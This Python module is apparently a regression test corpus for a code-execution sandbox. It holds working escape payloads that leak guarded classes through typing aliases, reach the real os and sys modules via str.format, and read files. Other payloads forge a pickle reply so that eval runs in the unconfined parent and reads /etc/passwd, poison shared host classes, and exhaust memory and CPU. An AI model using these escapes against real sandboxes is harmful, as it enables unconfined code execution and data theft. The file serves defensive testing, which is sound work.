"""Round-2 review corpus: payloads for holes found after the first review's fixes.

Same format and harness as :mod:`corpus_review` (``ReviewCase``, the called
function is always ``tool``, categories from ``REVIEW_CATEGORIES``). The
findings, most dangerous first:

* **Full policy escape in both modes** (``hfe2_*escape*``): a raw guard closure
  (``"".ljust.func``, ``date.strftime.func``: ``partial.func`` is a native
  attribute) called with a foreign ``self`` raises ``AttributeError`` whose
  ``.obj`` is ``type(self)``; for a typing alias that is ``typing._GenericAlias``.
  Constructing ``_GenericAlias(str, ...)`` gives an object whose
  ``__getattr__`` forwards every non-dunder name to its origin, so
  ``alias.format`` is the *unguarded* ``str.format``. Its field syntax walks
  ``__globals__[sys].modules[os]`` and a final missing attribute raises an
  ``AttributeError`` whose ``.obj`` is the real ``os`` module.
* **Worker -> parent** (``p2_*``): replies are pickles the parent unpickles.
  An escaped worker writes its own frame on the reply pipe: code runs in the
  unconfined parent (``p2_forged_reply_runs_code_in_parent``), ``call()`` raises
  ``UnpicklingError`` in the parent, or an extra reply desynchronises the pipe so
  every later call of every session on that worker gets the previous call's
  reply (ok=True, no ``session_lost``).
* **Shared-state poisoning without a full escape**: ABC registration through
  typing aliases (``typing.Mapping[str, int].register(list)``), and attribute
  writes on any host class through a ``_GenericAlias`` subclass with
  ``_guarded_writes`` (``_BaseGenericAlias.__setattr__`` forwards to the origin).
* **C-level memory/CPU** through real objects behind ``partial.args`` and alias
  ``mro()`` (the session's real ``random.Random``, real ``Counter``/``list``), and
  ``safe`` members that are linear in an argument charged once but callable in a
  loop (``re.escape``, ``uuid5``, ``float``, ``Fraction(str)``, ``strptime``,
  ``json.JSONDecodeError``, ``Sequence.count``).
* **Non-determinism**: real ``list(set)`` (hash order) and ``copy.deepcopy``'s
  memo keys (memory addresses).
"""

from __future__ import annotations

import textwrap

from corpus_review import ReviewCase

__all__ = ["ROUND2_CASES"]


def _src(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


# The escape, shared by several payloads: `escape()` returns the real `sys` module.
_ESCAPE = _src('''
    import typing, calendar
    def grab(fmt, field, root):
        try:
            fmt("{0" + field + ".zz}", root)
        except AttributeError as e:
            return e.obj
        raise ValueError("not escaped")
    def alias_class():
        pad = "".ljust.func
        try:
            pad(typing.List[int], "x")
        except AttributeError as e:
            return e.obj
        raise ValueError("no alias class")
    def escape():
        fmt = alias_class()(str, (int,), name="s").format
        return grab(fmt, ".__globals__[sys]", calendar.isleap)
''')


def _escaping(text: str) -> str:
    return _ESCAPE + _src(text)


_PROBE_COUNTER = _src('''
    import collections
    def tool():
        return collections.Counter("aab").most_common()
''')
_PROBE_COUNTER_PAIRS = _src('''
    import collections
    def tool():
        return collections.Counter([("a", 5)])["a"]
''')
_PROBE_NOW = _src('''
    import datetime
    def tool():
        return datetime.datetime.now().isoformat()
''')
_PROBE_CLEAN = _src('''
    def tool():
        return "clean"
''')

# A pickle (protocol 0, written by hand: the sandbox's __import__ stops pickle.dumps
# from naming classes) of ("result", ToolResult(True, eval(CODE), None, None, 0)).
_PARENT_CODE = ("'RAN IN PARENT pid=%d cwd=%s passwd=%s' % (__import__('os').getpid(), "
                "__import__('os').getcwd(), open('/etc/passwd').readline().strip())")
_FORGED_PICKLE = ("(Vresult\ncastra_gym.sandbox.result\nToolResult\n(I01\ncbuiltins\n"
                  "eval\n(V" + _PARENT_CODE + "\ntRNNI0\ntRt.")
_FORGED_OWN_REPLY = ("(Vresult\ncastra_gym.sandbox.result\nToolResult\n(I01\n"
                     "Vforged reply to the payload's own call\nNNI0\ntRt.")


def _with_pickle(text: str, pickle_text: str) -> str:
    return _escaping(text).replace("PICKLE_TEXT", repr(pickle_text))


ROUND2_CASES: tuple[ReviewCase, ...] = (
    # ================================================================ host_frame_escape
    ReviewCase(
        name="hfe2_alias_str_format_os_getcwd",
        category="host_frame_escape",
        source=_escaping('''
            def tool():
                os = escape().modules["os"]
                return os.getcwd()
        '''),
        note=("'\"\".ljust.func' is the raw _s_pad guard; called on a typing alias it does "
              "getattr(type(self), 'ljust') and the AttributeError's .obj is "
              "typing._GenericAlias. _GenericAlias(str, (int,), name=...) forwards "
              "non-dunder attributes to str, so .format is the unguarded str.format; "
              "'{0.__globals__[sys].zz}'.format(calendar.isleap) raises AttributeError with "
              ".obj = the real sys. Escaped = returns the cwd (the host's in-process, the "
              "worker's temp dir in process mode). Contained = an error result."),
    ),
    ReviewCase(
        name="hfe2_strftime_guard_type_leak_os_getcwd",
        category="host_frame_escape",
        source=_src('''
            import typing, calendar, datetime
            def tool():
                raw = datetime.date(2020, 1, 1).strftime.func
                try:
                    raw(typing.Dict[str, int], "%Y")
                except AttributeError as e:
                    alias_class = e.obj
                fmt = alias_class(str, (int,), name="s").format
                try:
                    fmt("{0.__globals__[sys].modules[os].zz}", calendar.weekday)
                except AttributeError as e:
                    return e.obj.getcwd()
                raise ValueError("not escaped")
        '''),
        note=("The same escape through another raw guard (_strftime: "
              "type(self).strftime(self, fmt)): blocking one guard is not enough, every "
              "guard reachable through partial.func leaks type(self). Contained = error."),
    ),
    ReviewCase(
        name="hfe2_alias_str_format_reads_repo_file",
        category="host_frame_escape",
        source=_escaping('''
            def tool():
                sys = escape()
                os = sys.modules["os"]
                fmt = alias_class()(str, (int,), name="s").format
                package_file = grab(fmt, ".__file__", sys.modules["astra_gym"])
                root = os.path.dirname(os.path.dirname(package_file))
                with sys.modules["builtins"].open(os.path.join(root, "README.md")) as fh:
                    return fh.readline()
        '''),
        note=("After the escape, read a file at the root of the checkout. Process mode: "
              "Landlock lets the worker read the package root (confine.worker_environment "
              "puts _PACKAGE_ROOT on PYTHONPATH and readable_paths() admits every sys.path "
              "directory), i.e. the whole repository, where a .env usually lives. "
              "Contained = an error result."),
    ),
    ReviewCase(
        name="hfe2_alias_setattr_poisons_counter_most_common",
        category="host_frame_escape",
        source=_src('''
            import typing, collections
            class C:
                pass
            def tool():
                pad = "".ljust.func
                try:
                    pad(typing.List[int], "x")
                except AttributeError as e:
                    alias_class = e.obj
                try:
                    pad(C, "x")
                except AttributeError as e:
                    make_type = e.obj
                writable = make_type("Writable", (alias_class,), {"_guarded_writes": True},
                                     **{"_root": True})
                real_counter = collections.Counter.fromkeys.args[0]
                handle = writable(real_counter, (int,), name="c")
                handle.most_common = lambda self, n=None: "POISONED"
                if collections.Counter("aab").most_common() == "POISONED":
                    return "POISONED host collections.Counter.most_common"
                raise ValueError("not poisoned")
        '''),
        probe=_PROBE_COUNTER,
        probe_output='[["a", 2], ["b", 1]]',
        note=("No full escape needed: the guard leak gives `type`; a _GenericAlias subclass "
              "built with type(..., _root=True) and a '_guarded_writes' class attribute "
              "passes RestrictedPython's full_write_guard, and _BaseGenericAlias.__setattr__ "
              "does setattr(origin, name, value) for non-dunder names. Any reachable host "
              "class can be written (here the real Counter, from Counter.fromkeys.args[0]). "
              "Contained = error result, probe intact."),
    ),
    ReviewCase(
        name="hfe2_alias_setattr_poisons_frozen_datetime",
        category="host_frame_escape",
        source=_src('''
            import typing, datetime
            class C:
                pass
            def tool():
                pad = "".ljust.func
                try:
                    pad(typing.List[int], "x")
                except AttributeError as e:
                    alias_class = e.obj
                try:
                    pad(C, "x")
                except AttributeError as e:
                    make_type = e.obj
                writable = make_type("Writable", (alias_class,), {"_guarded_writes": True},
                                     **{"_root": True})
                handle = writable(datetime.datetime, (int,), name="d")
                handle.isoformat = lambda self, sep="T", timespec="auto": "1999-12-31T23:59:59"
                if datetime.datetime.now().isoformat() == "1999-12-31T23:59:59":
                    return "POISONED the frozen datetime class every session shares"
                raise ValueError("not poisoned")
        '''),
        probe=_PROBE_NOW,
        probe_output="2026-01-15T09:30:00",
        note=("The same write primitive on the frozen datetime class (cached per clock, "
              "shared by every session). Contained = error result, probe intact."),
    ),
    # ========================================== worker -> parent protocol (process mode)
    ReviewCase(
        name="p2_forged_reply_runs_code_in_parent",
        category="host_frame_escape",
        source=_with_pickle('''
            def tool():
                sys = escape()
                os = sys.modules["os"]
                if "ASTRA_GYM_SANDBOX_WORKER" not in os.environ:
                    return os.getcwd()  # in-process: the escape itself is the finding
                data = PICKLE_TEXT.encode("utf-8")
                header = sys.modules["struct"].pack("!i", len(data))
                os.write(int(sys.argv[2]), header + data)
                sys.exit(0)
        ''', _FORGED_PICKLE),
        note=("Replies are pickles the parent loads with no restriction. An escaped "
              "worker writes its own frame on the reply pipe (fd sys.argv[2]): a pickle that "
              "calls builtins.eval in the parent, which is not confined (it reads "
              "/etc/passwd, which Landlock denies the worker). Escaped = ok=True with "
              "'RAN IN PARENT pid=<parent pid> ...'. Contained = an error result."),
    ),
    ReviewCase(
        name="p2_garbage_reply_raises_in_parent",
        category="error_text",
        source=_escaping('''
            def tool():
                sys = escape()
                os = sys.modules["os"]
                if "ASTRA_GYM_SANDBOX_WORKER" not in os.environ:
                    return os.getcwd()
                data = b"not a pickle"
                os.write(int(sys.argv[2]), sys.modules["struct"].pack("!i", len(data)) + data)
                sys.exit(0)
        '''),
        worker_may_die=False,
        note=("WorkerProcess.request catches only EOFError/OSError around recv(): an "
              "UnpicklingError from a malformed reply propagates, so Sandbox.run()/call() "
              "raises in the parent. Contained = an error result, never an exception."),
    ),
    ReviewCase(
        name="p2_reply_desync_other_session",
        category="host_state",
        source=_with_pickle('''
            def tool():
                sys = escape()
                os = sys.modules["os"]
                if "ASTRA_GYM_SANDBOX_WORKER" not in os.environ:
                    return os.getcwd()
                data = PICKLE_TEXT.encode("utf-8")
                os.write(int(sys.argv[2]), sys.modules["struct"].pack("!i", len(data)) + data)
                return "POISONED: the next call on this worker, of any session, gets this"
        ''', _FORGED_OWN_REPLY),
        probe=_PROBE_CLEAN,
        probe_output="clean",
        note=("One extra reply frame: the parent takes it as this call's reply and every "
              "later request on the worker reads the previous call's reply (another "
              "session's result, ok=True, no session_lost) until the worker dies. "
              "Contained = error result; the probe (a fresh session, same worker) says clean."),
    ),
    # ========================================================================= host_state
    ReviewCase(
        name="hs2_abc_register_list_as_mapping",
        category="host_state",
        source=_src('''
            import typing, collections
            def tool():
                typing.Mapping[str, int].register(list)
                if collections.Counter([("a", 5)])["a"] == 5:
                    return "POISONED: collections.abc.Mapping now claims list (host-wide)"
                raise ValueError("not poisoned")
        '''),
        probe=_PROBE_COUNTER_PAIRS,
        probe_output="0",
        note=("typing aliases forward non-dunder attributes to their origin: "
              "typing.Mapping[str, int].register is collections.abc.Mapping.register. "
              "Registering list makes isinstance([], Mapping) true in the whole process: "
              "Counter(list_of_pairs) then dict.update()s instead of counting (a wrong "
              "ok=True result in every later session; host code checking Mapping breaks). "
              "Contained = error result, probe says 0."),
    ),
    # ========================================================================== c_memory
    ReviewCase(
        name="cmem2_session_rng_getrandbits_via_partial_args",
        category="c_memory",
        source=_src('''
            import random
            def tool():
                rng = random.choices.args[0]
                return rng.getrandbits(2147483647).bit_length()
        '''),
        note=("random.choices is partial(checked, rng): .args[0] is the session's real "
              "random.Random, whose getrandbits/randbytes/choices/sample/shuffle are the "
              "unchecked C and host-Python methods. A 256 MB int (~530 MB peak growth). "
              "Contained = a limit error, RSS < 256 MB."),
    ),
    ReviewCase(
        name="cmem2_real_counter_via_fromkeys_args",
        category="c_memory",
        source=_src('''
            import collections
            def tool():
                real_counter = collections.Counter.fromkeys.args[0]
                return len(real_counter(range(10000000)))
        '''),
        note=("Class-level guarded names return partial(guard, real_class): .args[0] is "
              "the real Counter/dict/OrderedDict/int/Decimal. The real Counter fills a 10M "
              "entry dict in C, uncharged (~700 MB, ~1 s). Contained = error, RSS < 256 MB."),
    ),
    ReviewCase(
        name="cmem2_real_list_via_alias_mro",
        category="c_memory",
        source=_src('''
            import typing
            def tool():
                real_list = typing.List[int].mro()[0]
                big = real_list(range(10000000))
                return len(real_list(big) + big)
        '''),
        note=("typing.List[int].mro() forwards to list.mro(): the real list, set, dict, "
              "tuple, frozenset, defaultdict, type.mro and collections.abc classes. The "
              "real constructors are uncharged. Contained = error, RSS < 256 MB."),
    ),
    # ============================================================================= c_cpu
    ReviewCase(
        name="ccpu2_sequence_count_host_loop",
        category="c_cpu",
        source=_src('''
            import typing
            def tool():
                count = typing.Sequence[int].count
                big = list(range(1000000))
                n = 0
                for i in range(1000000):
                    n += count(big, -1)
                return n
        '''),
        note=("typing.Sequence[int].count is collections.abc.Sequence.count: a host "
              "generator over the list, 1M unticked iterations per tick (~40 ms). "
              "Contained = budget error within seconds."),
    ),
    ReviewCase(
        name="ccpu2_re_escape_loop",
        category="c_cpu",
        source=_src('''
            import re
            def tool():
                s = "a." * 2000000
                n = 0
                for i in range(1000000):
                    n += len(re.escape(s))
                return n
        '''),
        note=("re.escape is 'safe: linear in the string, which was charged when built', "
              "but the string is charged once and escaped every tick (~0.25 s, 8 MB each). "
              "Contained = budget error within seconds."),
    ),
    ReviewCase(
        name="ccpu2_fraction_string_regex_loop",
        category="c_cpu",
        source=_src('''
            import fractions
            def tool():
                s = "1" * 1000000 + "x"
                n = 0
                for i in range(1000000):
                    try:
                        fractions.Fraction(s)
                    except ValueError:
                        n += 1
                return n
        '''),
        note=("The Fraction stand-in charges exponents and big ints, not the string: "
              "fractions' _RATIONAL_FORMAT backtracks over it (0.4 s per call at 1M "
              "characters, 3.5 s at 9M; 100 ops per retry). Contained = error in seconds."),
    ),
    ReviewCase(
        name="ccpu2_uuid5_big_name_loop",
        category="c_cpu",
        source=_src('''
            import uuid
            def tool():
                name = "a" * 10000000
                for i in range(1000000):
                    u = uuid.uuid5(uuid.NAMESPACE_DNS, name)
                return str(u)
        '''),
        note=("uuid3/uuid5 encode, concatenate and hash a 10 MB name per call (~23 ms, "
              "one tick). Contained = budget error within seconds."),
    ),
    ReviewCase(
        name="ccpu2_strptime_big_data_loop",
        category="c_cpu",
        source=_src('''
            import datetime
            def tool():
                s = "x" * 9000000
                n = 0
                for i in range(1000000):
                    try:
                        datetime.datetime.strptime(s, "%Y")
                    except ValueError:
                        n += 1
                return n
        '''),
        note=("check_time_format sizes the format, not the data: _strptime builds "
              "'time data %r does not match' (a 9 MB repr) per call (~30 ms). Contained = "
              "budget error within seconds."),
    ),
    ReviewCase(
        name="ccpu2_float_parse_loop",
        category="c_cpu",
        source=_src('''
            def tool():
                s = "1" * 9000000
                x = 0.0
                for i in range(1000000):
                    x = float(s)
                return x
        '''),
        note=("float is 'safe: linear in an argument charged when built'; the 9M-digit "
              "string is parsed again every tick (~10 ms). Contained = budget error."),
    ),
    ReviewCase(
        name="ccpu2_json_decode_error_ctor_loop",
        category="c_cpu",
        process_only=True,  # a known in-process limit (docs/sandbox.md)
        source=_src('''
            import json
            def tool():
                doc = "\\n" * 9000000
                n = 0
                for i in range(1000000):
                    n += json.JSONDecodeError("m", doc, 9000000).lineno
                return n
        '''),
        note=("json.JSONDecodeError is 'safe: raising and catching only', but its "
              "constructor counts newlines up to pos in host code (~6 ms per tick). "
              "Contained = budget error within seconds."),
    ),
    # ==================================================================== nondeterminism
    ReviewCase(
        name="nondet2_real_list_of_set_via_alias_mro",
        category="nondeterminism",
        source=_src('''
            import typing
            def tool():
                real_list = typing.List[int].mro()[0]
                return real_list({"alpha", "beta", "gamma", "delta", "epsilon", "zeta"})
        '''),
        expect="contained",
        note=("The real list constructor iterates the set in hash order "
              "(PYTHONHASHSEED). Contained = identical across seeds."),
    ),
    ReviewCase(
        name="nondet2_deepcopy_memo_ids",
        category="nondeterminism",
        source=_src('''
            import copy
            def tool():
                memo = {}
                copy.deepcopy([[1], [2]], memo)
                return sorted(memo)
        '''),
        expect="contained",
        note=("The sandbox copier honours a caller's memo dict and keys it by id(): "
              "memory addresses in the result, different in every process (both modes). "
              "Contained = identical across runs."),
    ),
)
